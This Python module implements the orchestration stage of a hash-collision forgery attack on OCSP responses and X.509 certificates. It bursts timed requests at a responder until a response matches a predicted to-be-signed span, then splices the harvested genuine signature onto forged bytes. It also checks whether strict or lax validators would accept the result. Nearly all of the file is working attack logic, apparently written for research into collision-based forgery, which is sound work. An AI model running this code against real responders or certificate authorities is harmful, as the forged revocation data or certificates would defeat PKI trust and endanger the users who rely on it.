"""End-to-end attack orchestration.

Given a verified collision candidate, the attacker waits for the recipe's
fire time, bursts the recipe's request across a short window, and watches
for a response whose signed bytes equal the prediction. On a hit it keeps
the signature, discards the responder's tbs, and splices the signature onto
the forged source the candidate collided with. Consumer-side validation of
the result (signature, signer eligibility, freshness threshold) lives here
too, since it is what decides whether the forgery is actually dangerous.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import datetime, timedelta

from .clock import Clock, sleep_until
from .collision import CollisionCandidate
from .messages import (
    AlgorithmIdentifier,
    BasicOcspResponse,
    Certificate,
    decode_ocsp_response,
    decode_tbs_certificate,
    decode_tbs_response_data,
    encode_basic_ocsp_response,
    encode_certificate,
)
from .pki import ContentKind, HashSpec, SignerIdentity, digest, verify
from .transport import ConnectionClosed, Transport, TransportError


class DigestMismatch(ValueError):
    """The harvested signature does not cover the forged bytes."""


class WindowMissed(RuntimeError):
    """No burst response matched the prediction (or the window already passed)."""

    def __init__(self, message: str, requests_sent: int = 0, responses: int = 0):
        super().__init__(message)
        self.requests_sent = requests_sent
        self.responses = responses


@dataclass(frozen=True)
class TimingPolicy:
    """Burst shape: window around the fire time, send rate, and a hard cap.

    The defaults implement the 20-requests-in-5-seconds burst that reliably
    lands at least one request inside a one-second target granule. Send
    instants are drawn uniformly inside the window, so the per-request hit
    probability against finer granularities degrades to granule/window.
    """

    window: timedelta = timedelta(seconds=5)
    rate: float = 4.0
    abort_after: int = 50
    rtt_compensation: timedelta = timedelta(0)

    @property
    def burst_size(self) -> int:
        return min(self.abort_after, max(1, int(self.window.total_seconds() * self.rate)))


@dataclass
class ForgedArtifact:
    kind: str  # "ocsp_response" | "certificate"
    tbs_bytes: bytes
    signature: bytes
    signature_algorithm: AlgorithmIdentifier
    framed_bytes: bytes
    signer_certificate: Certificate | None = None
    harvest_log: tuple[bytes, ...] = ()
    requests_sent: int = 0
    matches: int = 0


def splice(
    forged_tbs: bytes,
    harvested: BasicOcspResponse,
    *,
    kind: str,
    spec: HashSpec,
) -> ForgedArtifact:
    """Attach a harvested signature to a forged body and frame the result.

    The signature bytes are used exactly as returned by the responder; the
    only requirement is that both inputs digest identically under ``spec``.
    """
    if digest(spec, harvested.tbs_raw) != digest(spec, forged_tbs):
        raise DigestMismatch("harvested signature covers a different digest")
    if kind == ContentKind.OCSP_RESPONSE.value:
        body = BasicOcspResponse(
            tbs=decode_tbs_response_data(forged_tbs),
            signature_algorithm=harvested.signature_algorithm,
            signature=harvested.signature,
            certs=harvested.certs,
        )
        framed = encode_basic_ocsp_response(body)
    elif kind == ContentKind.CERTIFICATE.value:
        framed = encode_certificate(
            Certificate(
                tbs=decode_tbs_certificate(forged_tbs),
                signature_algorithm=harvested.signature_algorithm,
                signature=harvested.signature,
            )
        )
    else:
        raise ValueError(f"unknown artifact kind {kind!r}")
    return ForgedArtifact(
        kind=kind,
        tbs_bytes=forged_tbs,
        signature=harvested.signature,
        signature_algorithm=harvested.signature_algorithm,
        framed_bytes=framed,
        signer_certificate=harvested.certs[0] if harvested.certs else None,
    )


@dataclass(frozen=True)
class BurstResult:
    harvested: BasicOcspResponse
    requests_sent: int
    matches: int
    harvest_log: tuple[bytes, ...]


def fire_burst(
    recipe,
    transport: Transport,
    clock: Clock,
    policy: TimingPolicy = TimingPolicy(),
    *,
    rng: random.Random | None = None,
) -> BurstResult:
    """Send the recipe's request across its window until a response matches.

    Send instants are drawn uniformly inside the window centered on the
    recipe's fire time (shifted back by any RTT compensation); each response
    is compared byte-for-byte against the predicted tbs span. Raises
    WindowMissed if the window has already passed or nothing matched.
    """
    rng = rng if rng is not None else random.Random()
    center = recipe.fire_at - policy.rtt_compensation
    start = center - policy.window / 2
    deadline = center + policy.window / 2
    if clock.now() > deadline:
        raise WindowMissed("fire window already passed", requests_sent=0)

    window_us = int(policy.window.total_seconds() * 1e6)
    offsets = sorted(rng.randrange(window_us) for _ in range(policy.burst_size))
    harvest: list[bytes] = []
    sent = 0
    for offset in offsets:
        sleep_until(clock, start + timedelta(microseconds=offset))
        try:
            raw = transport.send(recipe.request_bytes)
        except ConnectionClosed:
            sent += 1
            continue
        except TransportError as exc:
            raise WindowMissed(
                f"transport failed: {exc}", requests_sent=sent, responses=len(harvest)
            )
        sent += 1
        harvest.append(raw)
        try:
            _, basic = decode_ocsp_response(raw)
        except Exception:
            continue
        if basic is not None and basic.tbs_raw == recipe.predicted_tbs:
            return BurstResult(
                harvested=basic,
                requests_sent=sent,
                matches=1,
                harvest_log=tuple(harvest),
            )
    raise WindowMissed(
        f"no response matched the prediction ({sent} requests)",
        requests_sent=sent,
        responses=len(harvest),
    )


def execute(
    candidate: CollisionCandidate,
    transport: Transport,
    clock: Clock,
    policy: TimingPolicy = TimingPolicy(),
    *,
    rng: random.Random | None = None,
) -> ForgedArtifact:
    """Fire the candidate's recipe at its moment and splice on a hit.

    The returned artifact's signature is one the responder actually sent
    during the burst; only the to-be-signed bytes underneath it are forged.
    """
    recipe = candidate.recipe
    if recipe is None:
        raise ValueError("candidate carries no request recipe")
    burst = fire_burst(recipe, transport, clock, policy, rng=rng)
    forged_tbs = candidate.h2_source.tbs_at(candidate.h2_index)
    kind = getattr(candidate.h2_source, "kind", ContentKind.OCSP_RESPONSE.value)
    artifact = splice(forged_tbs, burst.harvested, kind=kind, spec=candidate.hash_spec)
    artifact.harvest_log = burst.harvest_log
    artifact.requests_sent = burst.requests_sent
    artifact.matches = burst.matches
    return artifact


@dataclass(frozen=True)
class ArtifactVerdict:
    signature_valid: bool
    policy_eligible: bool
    freshness_ok: bool | None  # None when no threshold applies
    validator_policy: str
    checks: tuple[str, ...]

    @property
    def accepted(self) -> bool:
        if not self.signature_valid:
            return False
        if self.validator_policy == "strict_eku" and not self.policy_eligible:
            return False
        return self.freshness_ok is not False


def validate_artifact(
    artifact: ForgedArtifact,
    signer: SignerIdentity,
    *,
    validator_policy: str = "strict_eku",
    freshness_threshold: timedelta | None = None,
) -> ArtifactVerdict:
    """The consumer-side checks: signature, signer eligibility, freshness.

    ``strict_eku`` demands the signer be eligible for the artifact's content
    kind; ``relaxed`` accepts any valid signature, reproducing the lax
    validators that widen the attack's blast radius. The freshness threshold
    rejects response lifetimes (nextUpdate - thisUpdate) above the limit.
    """
    if validator_policy not in ("strict_eku", "relaxed"):
        raise ValueError(f"unknown validator policy {validator_policy!r}")
    kind = ContentKind(artifact.kind)
    spec = _spec_for(artifact.signature_algorithm)
    result = verify(signer, artifact.tbs_bytes, artifact.signature, spec, kind)
    checks = [
        f"signature: {'valid' if result.valid else 'INVALID'}",
        f"signer eligibility for {kind.value}: "
        f"{'eligible' if result.policy_eligible else 'NOT eligible'}",
    ]
    freshness: bool | None = None
    if freshness_threshold is not None and kind is ContentKind.OCSP_RESPONSE:
        tbs = decode_tbs_response_data(artifact.tbs_bytes)
        lifetimes = [
            s.next_update.instant - s.this_update.instant
            for s in tbs.responses
            if s.next_update is not None
        ]
        freshness = all(lifetime <= freshness_threshold for lifetime in lifetimes)
        checks.append(
            f"lifetime within {freshness_threshold}: {'yes' if freshness else 'NO'}"
        )
    return ArtifactVerdict(
        signature_valid=result.valid,
        policy_eligible=result.policy_eligible,
        freshness_ok=freshness,
        validator_policy=validator_policy,
        checks=tuple(checks),
    )


def _spec_for(algorithm: AlgorithmIdentifier) -> HashSpec:
    from .pki import hash_spec_from_signature_oid

    return hash_spec_from_signature_oid(algorithm.oid)
